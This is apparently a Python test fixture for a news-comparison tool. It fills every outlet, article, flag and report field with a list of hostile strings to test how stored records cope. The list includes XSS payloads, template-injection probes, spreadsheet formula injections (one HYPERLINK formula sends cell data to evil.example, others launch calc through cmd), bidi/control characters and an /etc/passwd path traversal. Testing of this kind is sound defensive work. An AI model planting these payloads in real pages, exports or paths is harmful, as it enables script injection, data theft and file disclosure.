"""A newsroom whose every word tries something: what outlets, feeds and files could bring in, as stored records."""

from __future__ import annotations

from dataclasses import replace
from typing import Any, Final

from compare.claims import Nearest
from compare.framing import Other
from compare.sharedtext import Place
from compare.wirecopy import Origin, SharedSentence, Shares
from compare.wording import Difference
from db.records import StoredDifference, StoredRevision
from scraper.article import storable_article
from tests import report_sample as sample
from variorum.inputs import EventInput, FetchReport, OutletLabel, Report

NASTY: Final = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    '" onmouseover="document.title=\'owned\'" x="',
    "' autofocus onfocus='document.title=1' x='",
    "</title></style></details><svg onload=alert(1)>",
    "<!--",
    "--> <b>out</b> <!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'owned'>]>&e;",
    "{{7*7}}{% raw %} ${7*7} <%= 7*7 %> &lt;b&gt; &amp;",
    "\u202egnp.exe\u2066 \u200f\u061c and \u0007\u0000\u0085\ufffe",
    "half a character: \ud800 and \udfff",
    "javascript:document.title='owned'",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    '","=1+1',
    "line\u2028separator\u2029 \x0b\x0c\x1f",
    "\\u003cscript\\u003e \\\" \\",
    "../../../../etc/passwd",
    "😀 \U000e0041 e\u0301",
)  # fmt: skip
"""Tags, attribute breaks, ends of comments, sections and styles, templates, controls, halves of characters, addresses
that run, formulas, and escapes that could come undone."""


def event(nasty: str, number: int) -> EventInput:
    """An event in which every string that comes from outside is, or holds, `nasty`."""
    address = nasty if number % 2 else f"https://evil.example/{nasty}"
    one = sample.article(
        f"outlet-{number}", f"x{number}", "2025-03-11T06:00:00Z", nasty, f"{nasty} wrote.", f"{nasty} alone.",
        language=nasty, url=address, authors=(nasty,), section=nasty, revision=2,
    )  # fmt: skip
    two = sample.article("meridian", f"y{number}", "2025-03-11", f"{nasty} too", f"{nasty} said.", url=nasty)
    three = sample.article(f"other-{number}", f"z{number}", None, "Third", f"{nasty} is near.", kind="stub")
    before = sample.article(
        one.article.outlet, f"x{number}", None, f"{nasty} before", f"The regime of {nasty} wrote.", f"{nasty} alone.",
        f"{nasty} gone.",
    )  # fmt: skip
    one, two, three, before = (
        replace(item, article=storable_article(item.article)) for item in (one, two, three, before)
    )
    held = [
        one.article.text.split("\n\n")[1:],
        two.article.text.split("\n\n")[1:],
        three.article.text.split("\n\n")[1:],
    ]
    readings = [sample.reading(item, found[0]) for item, found in zip((one, two, three), held, strict=True) if found]
    shared = sample.claim(*readings[:2], nearest=[Nearest(readings[2], 0.3, 0.4)])
    alone = sample.claim(readings[2])
    variants = tuple(
        sample.variant(item, reading.text, side)
        for item, reading, side in zip((one, two), readings, "ab", strict=False)
    )
    told = [Difference(kind, variants, f"{nasty} wrote “{nasty}”.") for kind in _KINDS]
    word, other = one.article.title, Other(readings[1].outlet, readings[1].text)
    flags = [
        sample.flag(one, word, "doubt", voice="quoted", source=word, message=nasty, others=[other]),
        sample.flag(two, two.article.body, "naming", voice="paraphrase", source=nasty, message=nasty),
    ]  # fmt: skip
    flags = [replace(one, flag=replace(one.flag, rule=nasty)) for one in flags]
    origin = Origin(voice=f"agency:{nasty}", agency=nasty)
    copied = SharedSentence(Place(readings[1].article, readings[1].start, readings[1].end), "meridian", nasty, origin)
    key = one.article.key
    revisions = [StoredRevision(key, 1, before.article, sample.SEEN), StoredRevision(key, 2, one.article, sample.SEEN)]
    return sample.event(
        [one, two, three], claims=[shared, alone], flags=flags, title=nasty, revisions=revisions,
        differences=[StoredDifference(shared.id, found) for found in told], changes=sample.changes_of(revisions),
        shares=Shares((copied,)),
    )  # fmt: skip


_KINDS: Final[tuple[Any, ...]] = ("quote", "number", "doubt", "absence", "prominence", "contradiction")


def events() -> list[EventInput]:
    return [event(nasty, number) for number, nasty in enumerate(NASTY)]


def report(**changes: Any) -> Report:
    """Names of outlets and of the report are as bad; so is where an outlet's articles are said to be read."""
    labels = {
        slug: OutletLabel(nasty, source_url=lambda url: url)
        for number, nasty in enumerate(NASTY)
        for slug in (f"outlet-{number}", f"other-{number}")
    }
    versions = {"rules": NASTY[0], "program": NASTY[10]}
    return sample.report(**({"title": " ".join(NASTY), "outlets": labels, "versions": versions} | changes))


def fetch() -> FetchReport:
    (failure,) = sample.fetch_report().failures
    return FetchReport(len(NASTY), 0, tuple(replace(failure, outlet=n, url=n, reason=n, detail=n) for n in NASTY))
